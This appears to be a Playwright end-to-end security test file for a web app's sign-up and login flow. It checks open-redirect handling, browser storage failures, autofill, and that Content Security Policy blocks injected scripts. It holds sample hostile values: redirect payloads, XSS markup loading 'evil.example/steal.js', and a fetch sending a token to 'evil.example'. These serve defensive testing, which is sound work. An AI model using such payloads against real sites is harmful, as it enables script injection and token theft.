import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { password } from "../api/testing/both-databases.ts";
import { strength } from "../engine/testing/depth.ts";
import { textField, write } from "./support/fill.ts";
import { bringTo } from "./support/journeys.ts";
import { leaveHere } from "./support/kept.ts";
import { openPage } from "./support/page.ts";
import { freshEmail, logInHere, logOut } from "./support/sign-up.ts";
import { type Site, sharedSite } from "./support/site.ts";
import {
  atHeading,
  atPath,
  pathOf,
  press,
  saveAndContinue,
  saved,
  saveState,
  supplierBase,
} from "./support/steps.ts";

const location = `${supplierBase}/business-location`;

test("attack 40: a return address to another site leads home", async () => {
  const site = await sharedSite();
  const email = freshEmail();
  await site.signUp(email);
  const page = await openPage(site);
  const addresses = ["//evil.example", "/\\evil.example", "javascript:alert(1)", "https://site.evil/login"];
  // renderer/session/own-path.test.ts tries them all.
  for (const evil of addresses.slice(0, strength(1, addresses.length))) {
    await page.goto(`/login?returnTo=${encodeURIComponent(evil)}`);
    await page.evaluate((address) => sessionStorage.setItem("returnTo", address), evil);
    await logInHere(page, email);
    await atHeading(page, "Choose your account type");
    expect(new URL(page.url()).origin, evil).toBe(site.url);
    await logOut(page);
  }
});

/** Makes the browser's stores fail, as private windows and strict settings do. */
function blockStores(): void {
  const refuse = () => {
    throw new DOMException("Access is denied for this document.", "SecurityError");
  };
  for (const store of ["localStorage", "sessionStorage", "indexedDB"])
    Object.defineProperty(window, store, { get: refuse });
}

/** Logs in and saves a step in a browser with a fault. */
async function logInAndSave(page: Page, email: string): Promise<void> {
  await page.goto("/login");
  await page.getByLabel("Remember me").check();
  await logInHere(page, email);
  await atPath(page, location);
  await page.goto(`${supplierBase}/personal-details`);
  await atHeading(page, "Personal Information");
  await write(page, "City", "Savannah");
  await saveAndContinue(page, "Supplier Info");
  await saveState(page, saved);
}

const cannotKeep = "This browser does not store unsaved input across reloads.";

test("attack 133: a browser that blocks every store, or has no room left, signs in and saves", async () => {
  const site = await sharedSite();
  const person = await site.signUp();
  const { email } = person;
  await bringTo(site, person, "supplier", "business-location");
  const blocked = await openPage(site, { expected: [cannotKeep] });
  await blocked.addInitScript(blockStores);
  await logInAndSave(blocked, email);
  await logOut(blocked);

  const full = await openPage(site);
  await full.goto("/login");
  await full.evaluate(() => {
    for (const store of [localStorage, sessionStorage]) {
      let size = 2 ** 20;
      for (let key = 0; size >= 1; key += 1) {
        try {
          store.setItem(`filler-${key}`, "x".repeat(size));
        } catch {
          size /= 2;
        }
      }
    }
  });
  await logInAndSave(full, email);
  await logOut(full);
});

test("attack 133: a store that never answers is waited for five seconds, and logged", async () => {
  const site = await sharedSite();
  const person = await site.signUp();
  const page = await openPage(site, { token: person.token, expected: [/timed out after \d000 ms/] });
  const errors: string[] = [];
  page.on("console", (message) => message.type() === "error" && errors.push(message.text()));
  await page.clock.install();
  await page.addInitScript(() => {
    IDBFactory.prototype.open = () => new EventTarget() as IDBOpenDBRequest;
  });
  await page.goto("/user-name");
  await page.getByRole("status").getByText("Loading").waitFor({ state: "attached" });
  expect(await page.getByRole("heading", { level: 1 }).count()).toBe(0);
  await page.clock.runFor(5000);
  await atHeading(page, "What's Your Name");
  expect(errors[0]).toContain("Restoring the saved state timed out after 5000 ms.");
  await page.getByRole("button", { name: "Account menu" }).click();
  await press(page, "Log out");
  await page.clock.runFor(1100);
  await expect.poll(() => page.context().cookies()).toEqual([]);
  await page.clock.runFor(3100);
  await atHeading(page, "Log in");
});

test("attack 133: leftovers of an old or broken release in the browser are ignored", async () => {
  const site = await sharedSite();
  const person = await site.signUp();
  const { email } = person;
  await bringTo(site, person, "supplier", "business-location");
  const page = await openPage(site, { token: person.token });
  await page.goto("/account-type");
  await atHeading(page, "Choose your account type");
  const own = (key: string) => `${person.userId}/${key}`;
  await leaveHere(page, {
    [own("auth")]: { user: 7, email: { a: 1 } },
    [own("draft/supplier/business-location")]: '{"city":',
    [own("draft/supplier/basic-information")]: [1, 2],
    [own("draft/supplier/no-such-step")]: { city: 3 },
    [own("save/supplier/a")]: null,
    [own("save/supplier/b")]: { id: "b", step: "business-location", entry: "yes", at: 1 },
    [own("save/supplier/c")]: { id: "c", step: "business-location", entry: { answer: 4 }, at: "now" },
  });
  await page.evaluate(() => {
    localStorage.setItem("rememberedEmail", '{"email":');
    sessionStorage.setItem("returnTo", "{");
    sessionStorage.setItem("carryOver", "[]");
    document.cookie = "email=%E0%A4%A; Path=/";
  });
  await page.goto(`${supplierBase}/basic-information`);
  await atHeading(page, "Supplier Info");
  expect(await textField(page, "Company name").inputValue()).not.toBe("");
  await page.goto(location);
  await atHeading(page, "Business Location");
  await write(page, "City", "Savannah");
  await logOut(page);
  await logInHere(page, email);
  await atPath(page, location);
  await page.evaluate(() => {
    document.cookie = "authToken=%E0%A4%A; Path=/";
  });
  await page.goto("/user-name");
  await atHeading(page, "Log in");
});

test("attack 134: a missing part of an older release asks to reload, and no typing is lost", async () => {
  const site = await sharedSite();
  const person = await site.signUp();
  await bringTo(site, person, "supplier", "business-location");
  const page = await openPage(site, { token: person.token, expected: ["status of 404", "Loading chunk"] });
  await page.goto(location);
  await write(page, "City", "Savannah");
  // As the server responds once a newer release has replaced the older one.
  await page.route("**/assets/landing-page-*.js", (route) =>
    route.fulfill({ status: 404, body: "Not found" }),
  );
  await page.getByRole("banner").getByRole("link", { name: "Sourcebridge" }).click();
  await atHeading(page, "Unexpected Application Error!");
  await page.getByText("Loading chunk landing failed").waitFor();
  await page.getByText("Part of this page didn't load.").waitFor();
  await page.unroute("**/assets/landing-page-*.js");
  await press(page, "Reload the page");
  await atPath(page, "/");
  await page.goto(location);
  await atHeading(page, "Business Location");
  await expect.poll(() => textField(page, "City").inputValue()).toBe("Savannah");
});

test("attack 135: a code is pasted as the mail writes it, with a dash", async () => {
  const site = await sharedSite();
  const email = freshEmail();
  const page = await openPage(site);
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.goto("/signup");
  await page.getByLabel("Email").fill(email);
  await press(page, "Continue");
  await atHeading(page, "Check Your Inbox");
  const digits = await site.codeFor(email);
  const box = page.getByLabel("Six-digit code");
  // The sixth digit submits: held back until both spellings are in.
  let release: () => void = () => undefined;
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route("**/api/user/register_user_email/verify", async (route) => {
    await held;
    await route.continue();
  });
  expect(await box.evaluate((input) => input === document.activeElement)).toBe(true);
  for (const spelling of [
    `${digits.slice(0, 3)}-${digits.slice(3)}`,
    ` ${digits.slice(0, 3)} ${digits.slice(3)}\n`,
  ]) {
    await page.evaluate((text) => navigator.clipboard.writeText(text), spelling);
    await page.keyboard.press("ControlOrMeta+A");
    await page.keyboard.press("ControlOrMeta+V");
    await expect.poll(() => box.inputValue()).toBe(digits);
  }
  release();
  await atHeading(page, "Secure Your Account");
});

/**
 * Fills a field as a browser's autofill does: the value is there without a keystroke, and no field lost the focus.
 */
async function autofill(page: Page, autocomplete: string, text: string): Promise<void> {
  await page
    .locator(`input[autocomplete="${autocomplete}"]:visible`)
    .first()
    .evaluate((box, value) => {
      Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value")?.set?.call(box, value);
      box.dispatchEvent(new Event("input", { bubbles: true }));
      box.dispatchEvent(new Event("change", { bubbles: true }));
    }, text);
}

test("attack 135: a password manager's input is accepted, on each page that it knows", async () => {
  const site = await sharedSite();
  const email = freshEmail();
  const page = await openPage(site, { expected: ["status of 401"] });
  await page.goto("/signup");
  await page.getByRole("heading", { level: 1 }).waitFor();
  await autofill(page, "email", email);
  await press(page, "Continue");
  await atHeading(page, "Check Your Inbox");
  await autofill(page, "one-time-code", await site.codeFor(email));
  await atHeading(page, "Secure Your Account");
  const account = page.locator("input[autocomplete=username]");
  await expect
    .poll(() => account.inputValue(), { message: "the account that the new password is kept for" })
    .toBe(email);
  for (const box of await page.locator("input[autocomplete=new-password]").all()) await box.fill(password);
  await press(page, "Continue");
  await atHeading(page, "Account Created");
  await logOut(page);

  await page.goto("/login");
  await atHeading(page, "Log in");
  await autofill(page, "username", email);
  await autofill(page, "current-password", password);
  await page.keyboard.press("Tab");
  await press(page, "Continue");
  await atHeading(page, "Choose your account type");
});

const evilMarkup =
  '<img src="/nowhere.png" onerror="window.ran = true"><script>window.ran = true</script>' +
  '<script src="https://evil.example/steal.js"></script><iframe src="https://evil.example/"></iframe>';

test("attack 135: scripts that came with the page do not run, and the server hears of them", async () => {
  const site = await sharedSite();
  const page = await openWatchedPage(site);
  await page.route("**/login", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("<body>", `<body>${evilMarkup}`);
    await route.fulfill({ response, body });
  });
  await page.goto("/login");
  await atHeading(page, "Log in");
  await page.waitForTimeout(500);
  await expect
    .poll(() => seenIn(page))
    .toEqual({
      refused: ["frame-src", "script-src-attr", "script-src-elem"],
      ran: false,
    });
  for (const directive of ["frame-src", "script-src-attr", "script-src-elem"])
    await expect.poll(() => site.log.join("\n")).toContain(`"directive":"${directive}"`);
});

test("attack 135: injected scripts do not run, because no text becomes markup", async () => {
  const page = await openWatchedPage(await sharedSite());
  await page.goto("/login");
  await atHeading(page, "Log in");
  const threw = await page.evaluate(async (markup) => {
    const script = document.createElement("script");
    const ways = [
      () => document.body.insertAdjacentHTML("beforeend", markup),
      () => Object.assign(document.createElement("div"), { innerHTML: markup }),
      () => Object.assign(document.createElement("iframe"), { srcdoc: markup }),
      () => Object.assign(script, { src: "https://evil.example/steal.js" }),
      () => Object.assign(script, { text: "window.ran = true" }),
      () => new DOMParser().parseFromString(markup, "text/html"),
    ];
    const ends = ways.map((way) => {
      try {
        way();
        return "went through";
      } catch (error) {
        return (error as Error).name;
      }
    });
    script.append("window.ran = true");
    document.body.append(script);
    await fetch("https://evil.example/?token=1").catch(() => undefined);
    return ends;
  }, evilMarkup);
  await page.waitForTimeout(500);
  expect(threw).toEqual(Array(6).fill("TypeError"));
  const { refused, ran } = await seenIn(page);
  expect(ran).toBe(false);
  expect(refused).toEqual(expect.arrayContaining(["connect-src", "require-trusted-types-for"]));
  expect(pathOf(page)).toBe("/login");
});

/** Opens a page that records what its policy refuses. */
async function openWatchedPage(site: Site): Promise<Page> {
  const page = await openPage(site, {
    expected: [
      "Content Security Policy",
      "ERR_BLOCKED_BY_CSP",
      "nowhere.png",
      "TrustedHTML",
      "TrustedScript",
    ],
  });
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  });
  return page;
}

function seenIn(page: Page): Promise<{ refused: string[]; ran: boolean }> {
  return page.evaluate(() => {
    const { refused } = window as unknown as { refused: string[] };
    return { refused: [...new Set(refused)].sort(), ran: "ran" in window };
  });
}
